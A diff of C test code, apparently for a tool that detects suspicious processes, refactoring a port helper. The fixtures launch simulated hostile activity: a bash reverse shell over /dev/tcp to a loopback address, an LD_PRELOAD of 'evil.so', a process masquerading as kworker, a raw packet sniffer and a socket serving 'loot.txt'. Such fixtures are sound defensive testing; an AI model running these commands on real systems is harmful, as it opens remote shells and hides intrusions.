@@ -37,14 +37,14 @@ static char *
 start_cast(struct scene *scene, const char *netns)
 {
     const struct cast cast[] = {
-        { "listener", scene_text(scene, "holder tcp4-listen:0.0.0.0,%u", scene_port(0)) },
+        { "listener", scene_text(scene, "holder tcp4-listen:0.0.0.0,%u", scene_port(scene, 0)) },
         { "deleted", "./.gone tcp4-listen:127.9.9.9,0" },
         { "preloaded", "env LD_PRELOAD=./evil.so ASAN_OPTIONS=verify_asan_link_order=0 holder unix-pair" },
         { "disguised", "holder name:kworker/9:9 unix-pair" },
         { "lowered", "setpriv --ruid 1 --clear-groups holder unix-pair" },
         { "sniffer", "holder packet raw4:1" },
         { "unix", "holder unix-listen:published.sock file:loot.txt" },
-        { "inside", scene_text(scene, "ip netns exec %s holder tcp4-listen:0.0.0.0,%u", netns, scene_port(1)) },
+        { "inside", scene_text(scene, "ip netns exec %s holder tcp4-listen:0.0.0.0,%u", netns, scene_port(scene, 1)) },
     };
     char *arguments = scene_text(scene, "--argjson tests %d", (int)getpid());
     struct actor *actor;
@@ -52,9 +52,9 @@ start_cast(struct scene *scene, const char *netns)
     for (size_t i = 0; i < sizeof(cast) / sizeof(cast[0]); i++)
         arguments = scene_text(scene, "%s --argjson %s %d", arguments, cast[i].name,
                                (int)actor_start(scene, "%s", cast[i].command)->pid);
-    actor =
-        actor_start_until(scene, scene_text(scene, "ss -tnH state established dport = :%u | grep -q .", scene_port(0)),
-                          "bash -c 'exec bash --norc -i <>/dev/tcp/127.9.9.9/%u >&0 2>&1'", scene_port(0));
+    actor = actor_start_until(
+        scene, scene_text(scene, "ss -tnH state established dport = :%u | grep -q .", scene_port(scene, 0)),
+        "bash -c 'exec bash --norc -i <>/dev/tcp/127.9.9.9/%u >&0 2>&1'", scene_port(scene, 0));
     return scene_text(scene, "%s --argjson shell %d", arguments, (int)actor->pid);
 }
 
@@ -66,7 +66,8 @@ facts(struct scene *scene, const char *netns)
                       "--argjson port %u --argjson inner_port %u --arg namespace %llu --argjson aslr \"$(cat "
                       "/proc/sys/kernel/randomize_va_space)\" --arg kernel \"$(uname -r)\" --arg host \"$(uname -n)\""
                       " --arg platform \"$(. /etc/os-release; echo $ID)\"",
-                      scene_port(0), scene_port(1), (unsigned long long)scene_namespace_inode(scene, netns));
+                      scene_port(scene, 0), scene_port(scene, 1),
+                      (unsigned long long)scene_namespace_inode(scene, netns));
 }
 
 /* What stands behind "-- WORD: " in the block; NULL when it has no such line. */
